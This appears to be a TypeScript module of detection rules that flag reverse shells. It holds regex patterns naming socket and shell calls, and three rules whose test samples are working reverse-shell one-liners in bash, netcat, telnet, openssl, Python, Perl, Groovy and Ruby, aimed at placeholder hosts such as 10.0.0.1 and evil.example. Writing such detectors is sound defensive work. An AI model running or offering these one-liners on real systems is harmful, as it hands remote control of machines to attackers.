// Reverse shells: a shell whose input and output hang on a network connection.
import { severity } from "../../bands.ts";
import { type Heuristic, firstOf, onAnyCommand, onCode, onCommand, when } from "../../heuristic.ts";
import { isShell } from "../../programs.ts";
import { onlyOptions } from "../../read.ts";

const socketCall =
  /socket\.socket|socket\.create_connection|socket\s*\(\s*s\s*,|io::socket|tcpsocket|fsockopen|net\.(?:connect|socket|createconnection)|stream_socket_client|\/inet\/tcp|\/dev\/tcp|socket\.tcp|require\s*\(?\s*["']socket["']|java\.net\.socket|net\.sockets\.tcpclient|socat/iu;
const shellCall =
  /\/bin\/(?:ba|z|da|k|c)?sh|["'](?:ba|z)?sh["']|["']-i["']|cmd\.exe|powershell|pty\.spawn|dup2|popen|getline|subprocess|child_process|execve?\b|shell_exec|proc_open|os\.execute\s*\(\s*\w+:receive|\bexec\b|`\s*\$\w+\s*`/iu;

/** Languages whose words for a connection are everyday ones: here the shell has to be named. */
const otherSocket =
  /\bnew\s+socket\s*\(|\bnet\.dial\s*\(|tcpstream::connect|\bsocket\.tcp\b|\bsocket\.connect\s*\(|\btcpclient\s*\(|socketchannel|gen_tcp/iu;
const otherShell =
  /["'](?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh["']|cmd\.exe|["']powershell|\bshell\s*:\s*true|process\.start\s*\(|runtime\.getruntime\(\)\.exec/iu;

export const reverseShell: readonly Heuristic[] = [
  {
    id: "reverse-shell-device",
    threat: "Reverse shell",
    technique: "T1059.004",
    score: severity.critical,
    check: firstOf(
      onAnyCommand(["redirect"], (command) =>
        command.redirects.some((redirect) => /^\/dev\/(?:tcp|udp)\//u.test(redirect.target))
          ? "It ties a command to a network connection through /dev/tcp"
          : null,
      ),
      when([{ text: /\/dev\/(?:tcp|udp)/u }], (view) => {
        const match = /\/dev\/(?:tcp|udp)\/[^\s/]+\/[^\s/]+/u.exec(view.text);
        return match !== null && /\b(?:ba|z|k)?sh\b|exec\b|0>&1|>&/u.test(view.text)
          ? { reason: "It ties a shell to a network connection through /dev/tcp", evidence: match[0] }
          : null;
      }),
    ),
    match: [
      "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
      "exec 5<>/dev/tcp/evil.example/80; sh <&5 >&5",
      `bash -c 'sh -i >& /dev/udp/10.0.0.1/53 0>&1'`,
    ],
    not_match: ["ls /dev", "cat /dev/null > out.txt"],
  },
  {
    id: "piped-shell",
    threat: "Reverse shell",
    technique: "T1059.004",
    score: severity.critical,
    check: onCommand(isShell, (command, view) => {
      if (!onlyOptions(command)) return null;
      const peer = view.facts.commands.find(
        (other) =>
          other.pipeline === command.pipeline &&
          other !== command &&
          /^(?:nc|ncat|netcat|telnet|socat|openssl|sbd|cryptcat)$/u.test(other.program) &&
          (other.program !== "openssl" || other.subcommand === "s_client"),
      );
      return peer === undefined ? null : `It connects ${command.program} to the network with ${peer.program}`;
    }),
    match: [
      "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
      "telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445",
      "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s",
    ],
    not_match: ["cat a.sh | bash", "echo quit | openssl s_client -connect example.org:443"],
  },
  {
    id: "reverse-shell-code",
    threat: "Reverse shell",
    technique: "T1059",
    score: severity.critical,
    check: onCode((code) => {
      const text = code.text.slice(0, 65_536);
      return (socketCall.test(text) && shellCall.test(text)) || (otherSocket.test(text) && otherShell.test(text))
        ? `Its ${code.language} code connects a socket to a shell`
        : null;
    }),
    match: [
      `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
      `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");'`,
      `groovy -e 'String c="sh";Process p=new ProcessBuilder(c).start();Socket s=new Socket("10.0.0.1",4444)'`,
      `ruby -rsocket -e 'exit if fork;c=TCPSocket.new("10.0.0.1",4444);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end;exec "/bin/sh"'`,
    ],
    not_match: [
      `python3 -c 'import socket; print(socket.gethostname())'`,
      `node -e 'require("net").connect(5432).on("connect",()=>console.log("up"))'`,
    ],
  },
];
